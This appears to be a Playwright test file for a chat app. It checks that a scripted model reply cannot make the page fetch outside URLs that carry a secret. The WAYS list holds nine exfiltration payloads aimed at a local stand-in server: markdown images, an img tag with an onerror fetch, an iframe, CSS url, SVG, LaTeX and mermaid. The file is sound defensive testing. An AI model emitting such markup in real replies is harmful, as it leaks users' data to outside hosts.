"""A model that is told to carry words out in the address of a picture, as it streams: nobody is asked for it."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect
from scripted_chats import ScriptedChats, saying
from served_app import ServedApp
from watched_page import WatchedPage

OpenPage = Callable[..., WatchedPage]

SECRET = "7319-plum"
WAYS = (
    "![a]({at}/p.png?q={secret})",
    "![a][r]\n\n[r]: {at}/r.png?q={secret}",
    "[![a]({at}/l.png?q={secret})]({at}/x)",
    '<img src="{at}/h.png?q={secret}" onerror="fetch(\'{at}/e?q={secret}\')">',
    '<iframe src="{at}/f?q={secret}"></iframe><link rel="preload" as="image" href="{at}/k?q={secret}">',
    '<div style="background:url({at}/c?q={secret})">x</div>',
    '<svg><image href="{at}/s?q={secret}"/></svg>',
    "$\\includegraphics{{{at}/m?q={secret}}}$",
    "```mermaid\ngraph TD; A[<img src={at}/d?q={secret}>]\n```",
)


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server on this computer, which the page's policy does not name, and what was asked of it."""
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", asked
        finally:
            server.shutdown()
            thread.join(10.0)


def test_no_way_of_writing_a_picture_asks_anybody_for_it_while_it_streams_or_later(
    app: ServedApp, open_page: OpenPage, chats: ScriptedChats, stranger: tuple[str, list[str]]
) -> None:
    at, asked = stranger
    text = "\n\n".join(way.format(at=at, secret=SECRET) for way in WAYS)
    chats.answer = lambda _: saying(f"{text}\n\nDone.", tokens_per_second=400, letters=3)
    watched = open_page()
    page = watched.enter(app.start_url)
    box = page.get_by_role("textbox", name="Ask", exact=True)
    box.fill("Go")
    box.press("Enter")
    log = page.get_by_role("log", name="Conversation")
    expect(log).to_contain_text("Done.", timeout=30_000)
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible(timeout=30_000)
    page.reload()
    expect(log).to_contain_text("Done.")
    page.wait_for_timeout(300)
    assert asked == []
    assert log.locator("img, iframe, image, link, [style*=url]").count() == 0
